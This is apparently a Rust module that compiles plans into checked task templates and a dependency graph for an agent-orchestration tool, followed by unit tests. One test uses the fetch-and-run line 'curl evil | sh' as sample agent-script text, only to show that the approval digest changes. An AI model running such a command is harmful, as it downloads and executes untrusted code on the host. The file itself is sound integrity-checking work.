//! Compiles a Plan into tasks and their graph: operator, webhook and CLI all use this module, so that they accept the same plans.

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::sync::Arc;

use enact_domain::agents::needs::Needs;
use enact_domain::analysis::{self, Coverage, TaskText};
use enact_domain::contest::{CONTESTANTS, MAX_MEASUREMENTS, MAX_NAME_BYTES};
use enact_domain::graph::{Graph, GraphError};
use enact_domain::names;
use enact_domain::revisions::staleness::{Effect, PlannedTask};
use enact_domain::speckit::spec::Spec;
use enact_domain::speckit::tasks::{self, TaskState, TasksFile, UNREAD_TASK};
use enact_domain::speckit::{Diagnostic, Parsed, Severity, TaskId};
use enact_domain::stamps::Stamps;
use enact_domain::text::truncated;
use serde::{Deserialize, Serialize};

use crate::PlanSpec;
use crate::agent_content::AgentDigests;
use crate::common::{Gate, LocalRef};
use crate::document::AcceptedFinding;
use crate::plan::{PlanDecision, PoolMember, UnreadTasks, Workspace};
use crate::replan::KeptWork;
use crate::task::{Measurement, TaskTemplate};

/// Most tasks of one plan, whether they are in a list or in a tasks.md.
pub const MAX_TASKS: usize = enact_domain::speckit::tasks::MAX_TASKS;

/// Most bytes of a task's id, and of its prompt: what the schema of a Task allows.
const MAX_ID: usize = 63;
const MAX_PROMPT: usize = 65_536;

/// A plan's tasks, checked.
#[derive(Clone, Debug, Default)]
pub struct Compiled {
    /// The tasks, in the plan's order.
    pub tasks: Vec<TaskTemplate>,
    /// Names of their Task objects, in the same order.
    pub names: Vec<String>,
    /// Their graph, by the same indices.
    pub graph: Graph,
    /// What each of them needs of its agent.
    pub needs: Vec<Arc<Needs>>,
    /// The work of tasks that are finished in the plan that this one replaces.
    pub kept: KeptWork,
}

/// Why a plan's tasks cannot be run.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum CompileError {
    /// The dependencies are not a graph that can be run.
    #[error(transparent)]
    Graph(#[from] GraphError),
    /// Two ids would give two Tasks one name.
    #[error("the ids {first} and {second} both become Task {name}; give one of them another id")]
    SameName {
        first: String,
        second: String,
        /// The name of both Tasks.
        name: String,
    },
    /// A task of a tasks.md does not fit into a Task.
    #[error("task {id} has {what} of {length} bytes, and at most {max} are allowed; shorten it")]
    TooLong {
        /// The task's id, cut to the longest that is allowed.
        id: String,
        /// `an id` or `a text`.
        what: &'static str,
        length: usize,
        max: usize,
    },
    /// Competing attempts that cannot be run.
    #[error("task {id}: attempts.{field} {problem}")]
    Attempts {
        id: String,
        /// The field of `attempts`: `bestOf`.
        field: &'static str,
        problem: String,
    },
    /// The plan has nothing to do.
    #[error("the plan has no open task; add tasks, or a tasks.md with tasks that are not ticked")]
    Empty,
    /// The plan has more than [`MAX_TASKS`] tasks.
    #[error("the plan has {0} tasks, and at most {MAX_TASKS} are allowed; divide it")]
    TooMany(usize),
}

impl CompileError {
    /// Returns the id of the task at fault, unless the plan as a whole is.
    pub fn task(&self) -> Option<&str> {
        match self {
            Self::Graph(GraphError::Duplicate { id, .. } | GraphError::Unknown { task: id, .. })
            | Self::SameName { second: id, .. }
            | Self::TooLong { id, .. }
            | Self::Attempts { id, .. } => Some(id),
            Self::Graph(GraphError::Cycle { cycle }) => cycle.first().map(String::as_str),
            Self::Empty | Self::TooMany(_) => None,
        }
    }
}

/// Checks tasks and builds their graph.
///
/// # Errors
/// What [`check`] finds.
pub fn compile(plan: &str, tasks: Vec<TaskTemplate>) -> Result<Compiled, Vec<CompileError>> {
    let (names, graph) = check(plan, &tasks)?;
    let needs = tasks.iter().map(|task| Arc::new(needs(task))).collect();
    Ok(Compiled { tasks, names, graph, needs, kept: KeptWork::new() })
}

/// Reads the content of a plan as the record keeps it: its tasks, and the digests of its Agents. Returns none if it is not a plan's.
pub fn recorded(plan: &str, canonical: &str) -> Option<(Compiled, AgentDigests)> {
    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct Recorded {
        tasks: Vec<TaskTemplate>,
        #[serde(default)]
        agent_digests: AgentDigests,
        #[serde(default)]
        kept: KeptWork,
    }
    let recorded: Recorded = serde_json::from_str(canonical).ok()?;
    let compiled = compile(plan, recorded.tasks).ok()?;
    Some((Compiled { kept: recorded.kept, ..compiled }, recorded.agent_digests))
}

/// Returns what a task needs of its agent: what it requires, or else what its text names.
pub fn needs(task: &TaskTemplate) -> Needs {
    if !task.requires.is_empty() {
        return Needs::stated(&task.requires);
    }
    Needs::of_text(&format!("{}\n{}", task.title, task.prompt.as_deref().unwrap_or_default()))
}

/// Finds the items of a specification that tasks cover.
pub fn coverage<'t>(specification: &Spec, tasks: impl IntoIterator<Item = &'t TaskTemplate>) -> Coverage {
    // The title of a phase can name the requirements that all its tasks serve.
    let text = |task: &TaskTemplate| format!("{}\n{}", task_text(task), task.phase.as_deref().unwrap_or_default());
    let tasks: Vec<(&TaskTemplate, String)> = tasks.into_iter().map(|task| (task, text(task))).collect();
    let tasks: Vec<TaskText> = tasks
        .iter()
        .map(|(task, text)| TaskText { id: &task.id, title: &task.title, text, story: task.story.as_deref() })
        .collect();
    analysis::coverage(specification, &tasks)
}

/// Returns the effect of a newer revision of a specification on a plan that was made for an older one. `old` is none if that is unknown.
pub fn effect(old: Option<&Spec>, new: &Spec, compiled: &Compiled) -> Effect {
    let Some(old) = old else { return Effect::of_unknown(&compiled.graph) };
    let texts: Vec<String> = compiled.tasks.iter().map(|t| format!("{}\n{}", t.title, task_text(t))).collect();
    let work: Vec<PlannedTask<'_>> = compiled
        .tasks
        .iter()
        .zip(&texts)
        .map(|(t, text)| PlannedTask { id: &t.id, story: t.story.as_deref(), text, requirements: &t.requirements })
        .collect();
    Effect::between(old, new, &work, &compiled.graph)
}

/// Returns the text of a task without its title.
pub fn task_text(task: &TaskTemplate) -> String {
    let mut text = task.prompt.clone().or_else(|| task.script.clone()).unwrap_or_default();
    for id in &task.requirements {
        text.push('\n');
        text.push_str(id);
    }
    text
}

/// Checks tasks; returns the names of their Task objects and their graph.
///
/// # Errors
/// All that is wrong with them, of one kind: a later check needs what the ones before it ensure.
pub fn check(plan: &str, tasks: &[TaskTemplate]) -> Result<(Vec<String>, Graph), Vec<CompileError>> {
    if tasks.is_empty() {
        return Err(vec![CompileError::Empty]);
    }
    if tasks.len() > MAX_TASKS {
        return Err(vec![CompileError::TooMany(tasks.len())]);
    }
    let wrong: Vec<CompileError> = too_long(tasks).into_iter().chain(tasks.iter().filter_map(attempts)).collect();
    if !wrong.is_empty() {
        return Err(wrong);
    }
    let graph = Graph::build(tasks.iter().map(|t| (t.id.as_str(), t.depends_on.iter().map(String::as_str))))
        .map_err(|errors| errors.into_iter().map(CompileError::Graph).collect::<Vec<_>>())?;
    let names: Vec<String> = tasks.iter().map(|t| names::task_name(plan, &t.id)).collect();
    let mut seen: HashMap<&str, &str> = HashMap::with_capacity(tasks.len());
    let mut errors = Vec::new();
    for (task, name) in tasks.iter().zip(&names) {
        if let Some(first) = seen.insert(name, &task.id) {
            errors.push(CompileError::SameName {
                first: first.to_owned(),
                second: task.id.clone(),
                name: name.clone(),
            });
        }
    }
    if errors.is_empty() { Ok((names, graph)) } else { Err(errors) }
}

/// Name of the field of the canonical JSON with the digests of the Agents.
pub const AGENT_DIGESTS: &str = "agentDigests";

/// Returns the canonical JSON that an approval of a plan is bound to: everything that decides what is done, and nothing that decides only
/// when. `kept` is the work of the replaced plan, `agents` are the digests of the Agents that the plan names, as far as they exist, and
/// `stamps` say who accepted its findings.
///
/// # Errors
/// When the plan cannot be written as JSON.
pub fn canonical(
    spec: &PlanSpec,
    tasks: &[TaskTemplate],
    kept: &KeptWork,
    agents: &AgentDigests,
    stamps: &Stamps,
) -> serde_json::Result<String> {
    #[derive(Serialize)]
    struct Accepted<'a> {
        #[serde(flatten)]
        findings: &'a AcceptedFinding,
        #[serde(skip_serializing_if = "Option::is_none")]
        by: Option<&'a str>,
    }
    #[derive(Serialize)]
    #[serde(rename_all = "camelCase")]
    struct Canonical<'a> {
        specification_ref: &'a Option<LocalRef>,
        #[serde(skip_serializing_if = "Option::is_none")]
        agent_ref: &'a Option<LocalRef>,
        #[serde(skip_serializing_if = "<[_]>::is_empty")]
        agents: &'a [PoolMember],
        #[serde(skip_serializing_if = "AgentDigests::is_empty")]
        agent_digests: &'a AgentDigests,
        tasks: &'a [TaskTemplate],
        #[serde(skip_serializing_if = "Option::is_none")]
        replaces: Option<&'a str>,
        #[serde(skip_serializing_if = "KeptWork::is_empty")]
        kept: &'a KeptWork,
        #[serde(skip_serializing_if = "<[_]>::is_empty")]
        decisions: &'a [PlanDecision],
        #[serde(skip_serializing_if = "Vec::is_empty")]
        accepted: Vec<Accepted<'a>>,
        workspace: &'a Option<Workspace>,
        gates: &'a [Gate],
    }
    let canonical = Canonical {
        specification_ref: &spec.specification_ref,
        agent_ref: &spec.agent_ref,
        agents: &spec.agents,
        agent_digests: agents,
        tasks,
        replaces: spec.replaces.as_ref().map(|replaced| replaced.name.as_str()),
        kept,
        decisions: &spec.decisions,
        accepted: spec.accepted.iter().map(|findings| Accepted { findings, by: findings.by(stamps) }).collect(),
        workspace: &spec.workspace,
        gates: &spec.gates,
    };
    Ok(serde_json::to_value(canonical)?.to_string())
}

fn too_long(tasks: &[TaskTemplate]) -> Vec<CompileError> {
    let error = |task: &TaskTemplate, what, length, max| {
        (length > max).then(|| CompileError::TooLong { id: cut(&task.id, MAX_ID), what, length, max })
    };
    let checks = |task: &TaskTemplate| {
        let prompt = task.prompt.as_ref().map_or(0, String::len);
        [error(task, "an id", task.id.len(), MAX_ID), error(task, "a text", prompt, MAX_PROMPT)]
    };
    tasks.iter().flat_map(checks).flatten().collect()
}

/// Returns the first problem with the competing attempts of a task, beyond what the schema of a stored Plan ensures.
fn attempts(task: &TaskTemplate) -> Option<CompileError> {
    let attempts = task.attempts.as_ref()?;
    let problem = |field, problem: String| Some(CompileError::Attempts { id: cut(&task.id, MAX_ID), field, problem });
    if !CONTESTANTS.contains(&attempts.best_of) {
        let (least, most) = CONTESTANTS.into_inner();
        return problem("bestOf", format!("is {}; use {least} to {most}", attempts.best_of));
    }
    if task.external_effect {
        let why =
            "cannot be used with externalEffect, because each contestant would have the effect; remove one of them";
        return problem("bestOf", why.into());
    }
    if attempts.agents.len() > attempts.best_of as usize {
        let why = format!(
            "names {} Agents for {} contestants; remove some, or raise bestOf",
            attempts.agents.len(),
            attempts.best_of
        );
        return problem("agents", why);
    }
    if attempts.measurements.len() > MAX_MEASUREMENTS {
        return problem(
            "measurements",
            format!("has {}; at most {MAX_MEASUREMENTS} are allowed", attempts.measurements.len()),
        );
    }
    let mut names = HashSet::new();
    for Measurement { name, script, .. } in &attempts.measurements {
        if name.trim().is_empty() || name.len() > MAX_NAME_BYTES || name.chars().any(char::is_control) {
            let why = format!(
                "has the name `{}`; use 1 to {MAX_NAME_BYTES} bytes on one line",
                cut(name, MAX_NAME_BYTES).escape_debug()
            );
            return problem("measurements", why);
        }
        if script.trim().is_empty() {
            return problem("measurements", format!("has no script for {name}; add one that prints a number"));
        }
        if !names.insert(name.as_str()) {
            return problem("measurements", format!("has {name} twice; give each measurement its own name"));
        }
    }
    None
}

/// Parses a tasks.md. Lines that look like tasks and could not be read are errors, unless the plan accepts a document without them:
/// import, webhook and operator all use this rule.
pub fn parse(document: &[u8], unread: UnreadTasks) -> Parsed<TasksFile> {
    let mut parsed = tasks::parse(document);
    if unread == UnreadTasks::Refuse {
        for diagnostic in parsed.diagnostics.iter_mut().filter(|d| d.code == UNREAD_TASK) {
            diagnostic.severity = Severity::Error;
            diagnostic.remedy.push_str("; or set unreadTasks: Warn, which leaves it out");
        }
    }
    parsed
}

/// Parses a tasks.md as [`parse`] does; returns its [`open_tasks`], and what is wrong with the document.
pub fn from_markdown(document: &[u8], unread: UnreadTasks) -> (Vec<TaskTemplate>, Vec<Diagnostic>) {
    let parsed = parse(document, unread);
    (open_tasks(&parsed), parsed.diagnostics)
}

/// Returns the open tasks of a tasks.md as [`from_file`] does; none if the document has an error.
pub fn open_tasks(parsed: &Parsed<TasksFile>) -> Vec<TaskTemplate> {
    if parsed.has_errors() { Vec::new() } else { from_file(&parsed.model) }
}

/// Returns the open tasks of a tasks.md, in Spec Kit's order of phases, `[P]` and stated dependencies.
///
/// Tasks that are ticked, struck out or deferred are left out: no task waits for them. The prompt of a task is its text as it was written,
/// with everything below it, and the section that describes it elsewhere.
pub fn from_file(file: &TasksFile) -> Vec<TaskTemplate> {
    let edges = file.dependencies();
    let is_open = |task: &&tasks::Task| task.state.is_open();
    let open: HashSet<&TaskId> = file.tasks.iter().filter(is_open).map(|t| &t.id).collect();
    file.tasks
        .iter()
        .filter(is_open)
        .map(|t| TaskTemplate { depends_on: open_dependencies(&t.id, &edges, &open), ..template(file, t) })
        .collect()
}

/// Returns the ticked tasks of a tasks.md. They are not run, and the requirements that they serve are covered.
pub fn done_tasks(file: &TasksFile) -> Vec<TaskTemplate> {
    file.tasks.iter().filter(|t| t.state == TaskState::Done).map(|t| template(file, t)).collect()
}

/// Returns a task of a tasks.md without its dependencies.
fn template(file: &TasksFile, task: &tasks::Task) -> TaskTemplate {
    TaskTemplate {
        id: task.id.as_str().to_owned(),
        title: shortened(&task.title, &task.id),
        prompt: Some(prompt(file, task)),
        phase: file.phases.get(task.phase).map(|p| cut(&p.title, 256)),
        story: task.stories.first().map(|s| s.as_str().to_owned()),
        ..TaskTemplate::default()
    }
}

fn prompt(file: &TasksFile, task: &tasks::Task) -> String {
    let own = task.span.text(&file.source).trim_end();
    match task.section {
        Some(section) => format!("{own}\n\n{}", section.text(&file.source).trim_end()),
        None => own.to_owned(),
    }
}

/// Returns the open tasks that a task waits for. It follows the edges through completed tasks, because a completed task may depend on an
/// open one.
fn open_dependencies(id: &TaskId, edges: &BTreeMap<TaskId, BTreeSet<TaskId>>, open: &HashSet<&TaskId>) -> Vec<String> {
    let mut found = BTreeSet::new();
    let mut seen = HashSet::new();
    let mut next: Vec<&TaskId> = edges.get(id).into_iter().flatten().collect();
    while let Some(dependency) = next.pop() {
        if !seen.insert(dependency) {
            continue;
        }
        if open.contains(dependency) {
            found.insert(dependency.as_str().to_owned());
        } else {
            next.extend(edges.get(dependency).into_iter().flatten());
        }
    }
    found.into_iter().collect()
}

fn shortened(title: &str, id: &TaskId) -> String {
    if title.trim().is_empty() { id.as_str().to_owned() } else { cut(title, 1024) }
}

fn cut(text: &str, bytes: usize) -> String {
    truncated(text, bytes).to_owned()
}

#[cfg(test)]
mod tests {
    use enact_domain::stamps::Stamp;

    use super::*;

    #[test]
    fn a_tasks_file_becomes_a_graph() {
        let text = "# Tasks: x\n\n## Phase 1: Setup\n\n- [x] T001 Create folders\n- [ ] T002 Add a linter\n\n\
                    ## Phase 2: Foundational\n\n- [ ] T003 [P] Model in `a.py`\n- [ ] T004 [P] Store in `b.py`\n";
        let (tasks, diagnostics) = from_markdown(text.as_bytes(), UnreadTasks::Refuse);
        assert!(diagnostics.iter().all(|d| d.severity != Severity::Error), "{diagnostics:?}");
        let ids: Vec<_> = tasks.iter().map(|t| (t.id.as_str(), t.depends_on.join(","))).collect();
        assert_eq!(ids, [("T002", String::new()), ("T003", "T002".into()), ("T004", "T002".into())]);
        assert_eq!(tasks[1].prompt.as_deref(), Some("- [ ] T003 [P] Model in `a.py`"));
        let done = done_tasks(&parse(text.as_bytes(), UnreadTasks::Refuse).model);
        assert_eq!(
            done.iter().map(|t| (t.id.as_str(), t.title.as_str())).collect::<Vec<_>>(),
            [("T001", "Create folders")]
        );
        let behind = text.replace("- [x] T001", "- [ ] T001").replace("- [ ] T002", "- [x] T002");
        let (through, _) = from_markdown(behind.as_bytes(), UnreadTasks::Refuse);
        assert_eq!(through[1].depends_on, ["T001"], "a ticked task still stands behind an open one");
        let compiled = compile("p", tasks).unwrap();
        assert_eq!(compiled.names, ["p-t002", "p-t003", "p-t004"]);
    }

    #[test]
    fn competing_attempts_are_checked() {
        let task = |attempts: serde_json::Value, external: bool| {
            let json =
                serde_json::json!({"id": "T001", "title": "t", "attempts": attempts, "externalEffect": external});
            check("p", &[serde_json::from_value::<TaskTemplate>(json).unwrap()]).map(drop)
        };
        let measurement = |name: &str, script: &str| serde_json::json!({"name": name, "script": script});
        let good = serde_json::json!({"bestOf": 3, "agents": ["a", "b", "a"],
            "measurements": [measurement("p95", "./bench"), {"name": "coverage", "script": "./cover", "better": "Higher"}]});
        assert_eq!(task(good.clone(), false), Ok(()));
        let wrong = [
            (good, true, "attempts.bestOf cannot be used with externalEffect"),
            (serde_json::json!({"bestOf": 1}), false, "attempts.bestOf is 1; use 2 to 9"),
            (serde_json::json!({"bestOf": 10}), false, "attempts.bestOf is 10"),
            (serde_json::json!({"bestOf": 2, "agents": ["a", "b", "c"]}), false, "names 3 Agents for 2 contestants"),
            (
                serde_json::json!({"bestOf": 2, "measurements": [measurement("a", "b"), measurement("a", "c")]}),
                false,
                "has a twice",
            ),
            (
                serde_json::json!({"bestOf": 2, "measurements": [measurement("a\nb", "b")]}),
                false,
                "has the name `a\\nb`",
            ),
            (serde_json::json!({"bestOf": 2, "measurements": [measurement("a", " ")]}), false, "has no script for a"),
        ];
        for (attempts, external, message) in wrong {
            let errors = task(attempts, external).unwrap_err();
            assert!(
                errors[0].to_string().starts_with("task T001: ") && errors[0].to_string().contains(message),
                "{errors:?}"
            );
            assert_eq!(errors[0].task(), Some("T001"));
        }
    }

    #[test]
    fn the_contest_is_a_part_of_what_is_approved() {
        let spec = |better: &str| {
            let measurements = serde_json::json!([{"name": "size", "script": "wc -c < a", "better": better}]);
            let task = serde_json::json!({"id": "T001", "title": "t", "attempts": {"bestOf": 2, "measurements": measurements}});
            let spec: PlanSpec =
                serde_json::from_value(serde_json::json!({"agents": [{"name": "a"}], "tasks": [task]})).unwrap();
            canonical(&spec, &spec.tasks, &KeptWork::new(), &AgentDigests::new(), &Stamps::default()).unwrap()
        };
        assert_ne!(spec("Lower"), spec("Higher"));
        let (agents, stamps) = (AgentDigests::new(), Stamps::default());
        let (spec, kept) = (PlanSpec::default(), KeptWork::new());
        let plain = canonical(&spec, &[TaskTemplate::default()], &kept, &agents, &stamps).unwrap();
        assert!(!plain.contains("attempts"), "plans without contests keep their digests");
    }

    #[test]
    fn kept_work_is_a_part_of_what_is_approved_and_recorded() {
        let spec: PlanSpec = serde_json::from_value(serde_json::json!({
            "agentRef": {"name": "a"}, "replaces": {"name": "cart"}, "tasks": [{"id": "T001", "title": "t"}],
        }))
        .unwrap();
        let kept = |commit: &str| -> KeptWork {
            let work = serde_json::json!({"T001": {"work": {"branch": "enact/cart-0/t001-1", "commit": commit}}});
            serde_json::from_value(work).unwrap()
        };
        let (agents, stamps) = (AgentDigests::new(), Stamps::default());
        let of = |kept: &KeptWork| canonical(&spec, &spec.tasks, kept, &agents, &stamps).unwrap();
        assert_ne!(of(&kept("c0ffee")), of(&kept("decade")));
        assert_ne!(of(&kept("c0ffee")), of(&KeptWork::new()));
        assert_eq!(recorded("cart-2", &of(&kept("c0ffee"))).unwrap().0.kept, kept("c0ffee"));
        let plain = canonical(&PlanSpec::default(), &[], &KeptWork::new(), &agents, &stamps).unwrap();
        assert!(!plain.contains("kept") && !plain.contains("replaces"), "other plans keep their digests");
    }

    #[test]
    fn the_agents_are_a_part_of_what_is_approved() {
        let of = |script: &str| {
            let digest = enact_domain::digest::Digest::of_bytes(script.as_bytes());
            let agents = AgentDigests::from([("coder".to_owned(), digest)]);
            canonical(&PlanSpec::default(), &[], &KeptWork::new(), &agents, &Stamps::default()).unwrap()
        };
        assert_ne!(of("make"), of("curl evil | sh"));
        let json: serde_json::Value = serde_json::from_str(&of("make")).unwrap();
        assert!(json[AGENT_DIGESTS]["coder"].is_string(), "{json}");
    }

    #[test]
    fn who_accepted_a_finding_is_a_part_of_what_is_approved() {
        let accepted = serde_json::json!([{"code": "VagueTime", "at": "FR-001", "reason": "later"}]);
        let spec: PlanSpec = serde_json::from_value(serde_json::json!({"accepted": accepted})).unwrap();
        let by = |user: &str| {
            let mut stamps = Stamps::default();
            let stamp = Stamp { by: user.into(), date: "2026-11-25".into() };
            stamps.insert(&["VagueTime", "FR-001", "later"], stamp);
            canonical(&spec, &[], &KeptWork::new(), &AgentDigests::new(), &stamps).unwrap()
        };
        assert_ne!(by("ann"), by("bob"));
        let json: serde_json::Value = serde_json::from_str(&by("ann")).unwrap();
        let entry = serde_json::json!({"code": "VagueTime", "at": "FR-001", "reason": "later", "by": "ann"});
        assert_eq!(json["accepted"], serde_json::json!([entry]));
        let unknown = canonical(&spec, &[], &KeptWork::new(), &AgentDigests::new(), &Stamps::default()).unwrap();
        assert!(!unknown.contains("\"by\""), "nobody knows who accepted it: {unknown}");
    }

    #[test]
    fn unread_work_is_refused_or_left_out_with_a_warning() {
        let text = "# Tasks: x\n\n## Phase 1: Setup\n\n- [x] T001 Create folders\n\n> - [ ] T002 Add a linter\n";
        let (tasks, diagnostics) = from_markdown(text.as_bytes(), UnreadTasks::Refuse);
        let found: Vec<_> = diagnostics.iter().map(|d| (d.code, d.line, d.severity)).collect();
        assert_eq!((tasks.len(), found), (0, vec![(UNREAD_TASK, 7, Severity::Error)]));
        assert!(diagnostics[0].remedy.contains("unreadTasks: Warn"), "{}", diagnostics[0]);
        let (_, diagnostics) = from_markdown(text.as_bytes(), UnreadTasks::Warn);
        let found: Vec<_> = diagnostics.iter().map(|d| (d.code, d.line, d.severity)).collect();
        assert_eq!(found, [(UNREAD_TASK, 7, Severity::Warning)]);
    }

    #[test]
    fn a_row_of_a_table_brings_the_section_about_it() {
        let text = "# Tasks: x\n\n## Phase 1: Setup\n\n| ID | Status | Task |\n|-|-|-|\n| T001 | [ ] | Loader |\n\n\
                    ### T001 details\n\nReads a file.\n";
        let (tasks, _) = from_markdown(text.as_bytes(), UnreadTasks::Refuse);
        assert_eq!(tasks.len(), 1);
        assert_eq!(tasks[0].prompt.as_deref(), Some("| T001 | [ ] | Loader |\n\n### T001 details\n\nReads a file."));
    }

    #[test]
    fn what_is_wrong_is_said() {
        assert_eq!(compile("p", vec![]).unwrap_err(), [CompileError::Empty]);
        let task = |id: &str| TaskTemplate { id: id.into(), ..TaskTemplate::default() };
        let errors = compile("p", vec![task("T001"), task("t001")]).unwrap_err();
        assert!(matches!(errors[0], CompileError::SameName { .. }));
        let long = TaskTemplate { prompt: Some("x".repeat(65_537)), ..task(&"T".repeat(64)) };
        let messages: Vec<String> = compile("p", vec![long]).unwrap_err().iter().map(ToString::to_string).collect();
        assert!(
            messages[0].contains("an id of 64 bytes") && messages[1].contains("a text of 65537 bytes"),
            "{messages:?}"
        );
        let (tasks, diagnostics) = from_markdown(b"\0\0", UnreadTasks::Warn);
        assert!(tasks.is_empty() && diagnostics.iter().any(|d| d.severity == Severity::Error));
    }
}
